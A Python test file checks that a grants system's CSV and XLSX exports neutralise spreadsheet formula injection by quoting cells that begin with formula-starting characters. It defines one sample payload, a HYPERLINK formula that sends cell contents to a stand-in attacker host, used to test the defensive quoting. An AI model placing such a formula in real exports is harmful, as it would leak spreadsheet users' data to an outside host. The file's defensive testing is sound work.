"""Formula injection in the spreadsheet exports (OWASP "CSV injection"; ASVS 5.0 1.2.10): every leading character
that a spreadsheet program reads as the start of a formula or command, in every text column of the CSV and XLSX
files, comes out as text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from grants.outcomes import exports

# Written out here rather than read from the module, so that dropping one from the guard fails this test.
LEADING = {"equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t", "carriage return": "\r", "nul": "\0"}
PAYLOAD = 'HYPERLINK("https://evil.example/?"&A1,"Klikk")'
TEXT_COLUMNS = ("reference", "municipality_number", "municipality", "county", "title", "summary")


def grant(**values):
    row = {"reference": "2025-0001", "municipality_number": "0301", "municipality": "Oslo", "county": "Oslo",
           "partners": ["Bærum"], "title": "Tiltak", "summary": "Om tiltaket", "amount": 250_000,
           "continuation": False}
    row.update(values)
    return row


def csv_rows(data):
    text = exports.to_csv(data)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=";"))


def xlsx_rows(data):
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(data))).active
    header = [c.value for c in sheet[1]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("column", (*TEXT_COLUMNS, "partners"))
@pytest.mark.parametrize("name", LEADING)
def test_a_leading_formula_character_in_any_text_column_is_quoted(name, column):
    value = LEADING[name] + PAYLOAD
    data = {"grants": [grant(**{column: [value, "Asker"] if column == "partners" else value})]}
    expected = "'" + value + (", Asker" if column == "partners" else "")

    (row,) = csv_rows(data)
    assert row[column] == expected

    (cells,) = xlsx_rows(data)
    cell = cells[column]
    assert cell.data_type == "s", (name, column, cell.data_type)
    # XML keeps no NUL, and reads a carriage return back as a line feed: the quote in front is what counts.
    assert cell.value == expected.replace("\0", "").replace("\r", "\n")


@pytest.mark.parametrize("value", ["Kartlegging", "'=already quoted", " =1+1", "Oslo = hovedstaden", "e-post@x.no"])
def test_text_that_does_not_start_a_formula_is_left_as_typed(value):
    data = {"grants": [grant(title=value)]}
    assert csv_rows(data)[0]["title"] == value
    assert xlsx_rows(data)[0]["title"].value == value


def test_numbers_stay_numbers_and_are_never_quoted():
    data = {"grants": [grant(amount=-5, continuation=True)]}
    (cells,) = xlsx_rows(data)
    assert cells["amount"].value == -5 and cells["amount"].data_type == "n"
    assert csv_rows(data)[0]["amount"] == "-5"
    assert exports.neutralise(-5) == -5 and exports.neutralise(None) is None
